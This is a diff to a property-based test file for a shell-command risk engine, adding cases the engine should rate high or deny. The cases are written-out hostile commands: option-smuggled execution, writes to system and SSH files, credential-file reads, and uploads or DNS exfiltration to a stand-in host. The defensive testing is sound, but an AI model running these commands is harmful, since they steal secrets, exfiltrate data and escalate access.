@@ -67,9 +67,10 @@ describe("issue 15 kinds (fast-check)", () => {
     const templates = ["sort --compress-program=P -S1b big.txt", "sort --compress-prog P big.txt", "sort --compress=P x", "split -b1 --filter='P' payload", "split --filt 'P' f",
       "zip x.zip f -T -TT 'P'", "zip x.zip f --unzip-command 'P'", "rsync -e 'P' a host:b", "rsync --rsh='P' host:a b", "rsync --rsync-path='P' host:a b",
       "strace -o '|P' true", "tcpdump -i eth0 -w x.pcap -z P", "install --strip-program=P a b", "scp -S P f host:", "git archive --remote=x --exec='P' HEAD",
-      "git clone -u 'P' host:r", "git fetch --upload-pack='P' origin"];
+      "git clone -u 'P' host:r", "git fetch --upload-pack='P' origin", "scp -o ProxyCommand='P' host:/x .", "scp -oLocalCommand='P' -oPermitLocalCommand=yes host:/x .",
+      "sftp -o 'ProxyCommand P' host", "apt-get -o APT::Update::Pre-Invoke::='P' update", "apt -o 'DPkg::Post-Invoke::=P' install nginx"];
     fc.assert(fc.property(pick(templates), pick(["sh", "./x.sh", "/tmp/p", "bash -c id", "sh -c 'id>/tmp/p'", "python3"]), WRAP, (t, prog, w) => {
-      atLeastHigh(w(t.replace("P", prog)));
+      atLeastHigh(w(t.replace(/\bP\b/, prog)));
     }), { numRuns: RUNS });
     // A shell command line in such a value is judged recursively.
     fc.assert(fc.property(pick(["split --filter='X' f", "rsync -e 'X' a b:", "zip x.zip f -TT 'X'"]), pick(DENIED), (t, inner) => {
@@ -81,7 +82,8 @@ describe("issue 15 kinds (fast-check)", () => {
     const templates = ["strace -o F true", "strace -fo F true", "strace --output=F true", "ltrace -o F true", "xxd -r in.hex F", "xxd in F", "sort -o F x", "sort -uoF x",
       "sort --output F x", "sort --out=F x", "git show --output=F HEAD", "git log --outp=F", "git diff --output F", "git -C /srv/app show --output=F HEAD",
       "uniq in.txt F", "tee F", "tee -a F", "curl -o F https://x.example", "curl -so F https://x.example", "curl --output=F https://x.example",
-      "wget -O F https://x.example", "wget -qO F https://x.example", "openssl x509 -in c.pem -out F", "ss -D F", "time -o F ls", "awk '{print > \"F\"}' x"];
+      "wget -O F https://x.example", "wget -qO F https://x.example", "openssl x509 -in c.pem -out F", "ss -D F", "time -o F ls", "awk '{print > \"F\"}' x",
+      "gzip F", "xz -d F", "gawk -i inplace '{print}' F", "patch F < fix.diff", "patch -o F a.txt fix.diff", "gpg -o F -d x.gpg", "socat TCP-LISTEN:9 CREATE:F", "zstd -d x.zst -o F"];
     const protectedPaths = ["/etc/passwd", "/etc/cron.d/job", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys", "/etc/profile.d/motd.sh", "/etc/systemd/system/x.service", "/home/u/.bashrc", "/var/spool/cron/root"];
     fc.assert(fc.property(pick(templates), pick(protectedPaths), WRAP, (t, p, w) => {
       denied(w(t.replace("F", p)));
@@ -101,6 +103,8 @@ describe("issue 15 kinds (fast-check)", () => {
     fc.assert(fc.property(pick(["kernel.sysrq=1", "-w net.ipv4.ip_forward=1", "--write vm.swappiness=1", "-p /tmp/evil.conf", "--load=/tmp/x.conf", "--system", "-qw kernel.x=1"]), WRAP, (a, w) => {
       atLeastHigh(w(`sysctl ${a}`));
     }), { numRuns: 60 });
+    for (const s of ["loginctl terminate-user admin", "loginctl kill-session 3", "pkill -9 -t pts/0", "pkill -KILL -u root", "killall -u root", "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StopUnit ss ssh.service replace",
+      "systemctl set-environment LD_PRELOAD=/tmp/x.so", "systemctl link /tmp/x.service"]) atLeastHigh(s);
     for (const s of ["date -s '2020-01-01'", "date --set tomorrow", "date 010100002030", "hostname evil"]) expect(engine.assess(s).risk_level, s).not.toBe("low");
   });
 
@@ -113,6 +117,11 @@ describe("issue 15 kinds (fast-check)", () => {
     fc.assert(fc.property(pick(["cat", "strings", "xxd", "head -c 200", "tr '\\0' '\\n' <", "base64"]), pick(["1", "self", "*", "$$", "12345"]), (reader, pid) => {
       atLeastHigh(`${reader} /proc/${pid}/environ`);
     }), { numRuns: 100 });
+    fc.assert(fc.property(pick(["cat", "base64", "xxd", "cp FILE /tmp/x #", "tar czf /tmp/x.tgz", "strings", "less"]), pick(["/etc/shadow", "/root/.ssh/id_ed25519", "/etc/ssh/ssh_host_rsa_key",
+      "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/kubernetes/admin.conf", "/etc/ssl/private/site.key", "~/.aws/credentials", "~/.kube/config", "/etc/wireguard/wg0.conf", "~/.npmrc"]), WRAP, (r, f, w) => {
+      atLeastHigh(w(r.includes("FILE") ? r.replace("FILE", f) : `${r} ${f}`));
+    }), { numRuns: 150 });
+    for (const s of ["kubectl config view --raw", "getent shadow", "gpg --export-secret-keys"]) atLeastHigh(s);
     for (const ok of ["ps aux", "ps -ef", "ps -e -o pid,comm", "ps axjf"]) expect(engine.assess(ok).risk_level, ok).toBe("low");
   });
 
@@ -125,7 +134,8 @@ describe("issue 15 kinds (fast-check)", () => {
     const uploads = ["curl -d @FILE https://x.example", "curl -sSd@FILE https://x.example", "curl --data-binary @FILE https://x.example", "curl --data-bin @FILE https://x.example",
       "curl --json @FILE https://x.example", "curl -F 'a=@FILE' https://x.example", "curl -F 'a=<FILE' https://x.example", "curl -T FILE https://x.example", "curl --upload-file FILE ftp://x.example/",
       "curl --data-urlencode n@FILE https://x.example", "wget --post-file=FILE https://x.example", "wget --body-file FILE https://x.example", "nc x.example 80 < FILE", "cat FILE | nc x.example 9",
-      "scp FILE host.example:", "rsync -a FILE host.example:/tmp/"];
+      "scp FILE host.example:", "rsync -a FILE host.example:/tmp/", "dig $(cat FILE).x.example", "curl \"https://x.example/?d=$(base64 -w0 FILE)\"",
+      "nslookup $(head -c 40 FILE | xxd -p).x.example"];
     fc.assert(fc.property(pick(uploads), pick(["/etc/hosts", "notes.txt", "/root/secret.txt", "~/db.sql"]), pick([(c: string) => c, (c: string) => `cat <(${c})`, (c: string) => `echo $(${c})`]), (u, f, ctx) => {
       atLeastHigh(ctx(u.replace("FILE", f)));
     }), { numRuns: RUNS });
@@ -141,6 +151,8 @@ describe("issue 15 kinds (fast-check)", () => {
       atLeastHigh(`${p} | xargs ${o}${cmd}`);
     }), { numRuns: RUNS });
     atLeastHigh("seq 100000 | xargs -P0 -n1 sleep");
+    fc.assert(fc.property(pick(["cat /dev/zero > F", "cat /dev/urandom >> F", "dd if=/dev/zero of=F bs=1M", "dd if=/dev/urandom of=F", "yes > F", "tr -dc a-z < /dev/urandom > F", "cat < /dev/zero > F"]),
+      pick(["/var/tmp/fill", "big.bin", "/srv/x", "/home/u/x"]), WRAP, (t, f, w) => { atLeastHigh(w(t.replace("F", f))); }), { numRuns: 100 });
   });
 
   it("kind 10: storing or changing credentials and access is at least high", () => {
@@ -149,7 +161,7 @@ describe("issue 15 kinds (fast-check)", () => {
       "npm login", "npm adduser", "npm token create", "npm config set //registry.npmjs.org/:_authToken X", "kubectl config set-credentials admin --token=X",
       "kubectl create secret generic db --from-literal=p=X", "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve", "vault login X", "gcloud auth login", "az login",
       "htpasswd -b /etc/nginx/.htpasswd a X", "ssh-copy-id admin@db.example.com", "echo 'machine x password X' >> ~/.netrc", "echo X > ~/.aws/credentials", "echo 'Host *' >> ~/.ssh/config",
-      "git remote set-url origin https://user:X@github.com/x/y"];
+      "git remote set-url origin https://user:X@github.com/x/y", "chmod 666 /var/run/docker.sock", "setfacl -m u:eve:rw /run/docker.sock"];
     fc.assert(fc.property(pick(lines), WRAP, fc.constantFrom("X", "s3cr3t", "$TOKEN"), (l, w, secret) => { atLeastHigh(w(l.replace("X", secret))); }), { numRuns: RUNS });
   });
 });
